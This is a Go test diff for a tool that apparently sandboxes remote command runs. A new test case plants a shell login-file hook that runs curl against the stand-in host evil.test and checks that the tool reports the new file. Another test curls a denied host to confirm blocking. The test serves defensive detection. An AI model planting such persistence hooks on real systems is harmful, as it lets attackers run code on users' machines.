@@ -405,6 +405,15 @@ func TestRemoteRunReachesUpstreamThroughItsDoor(t *testing.T) {
 		t.Fatalf("runs events %s has no allow of upstream.test:\n%s", run.ID, evOut)
 	}
 
+	// A login file the remote run made in the remote home is named at home
+	// when the run ends.
+	_, stderr, code = r.C.postern(t, "run", "--machine", "far", "--policy", pol, "--resolver", r.resolver(), "--",
+		"sh", "-c", `echo 'curl evil.test' > "$HOME/.bash_profile"`)
+	if want := filepath.Join(r.Remote.Home, ".bash_profile") + " appeared during the run."; code != 0 || !strings.Contains(stderr, want) {
+		t.Fatalf("remote run planting ~/.bash_profile: exit %d, stderr %q; want %q", code, stderr, want)
+	}
+	os.Remove(filepath.Join(r.Remote.Home, ".bash_profile"))
+
 	// A denied name on the remote is denied, and the exit status comes home.
 	stdout, stderr, code = r.C.postern(t, "run", "--machine", "far", "--policy", pol, "--resolver", r.resolver(), "--",
 		"sh", "-c", "curl -sS --max-time 5 http://denied.test/ >/dev/null 2>&1; echo to-stderr >&2; exit 7")
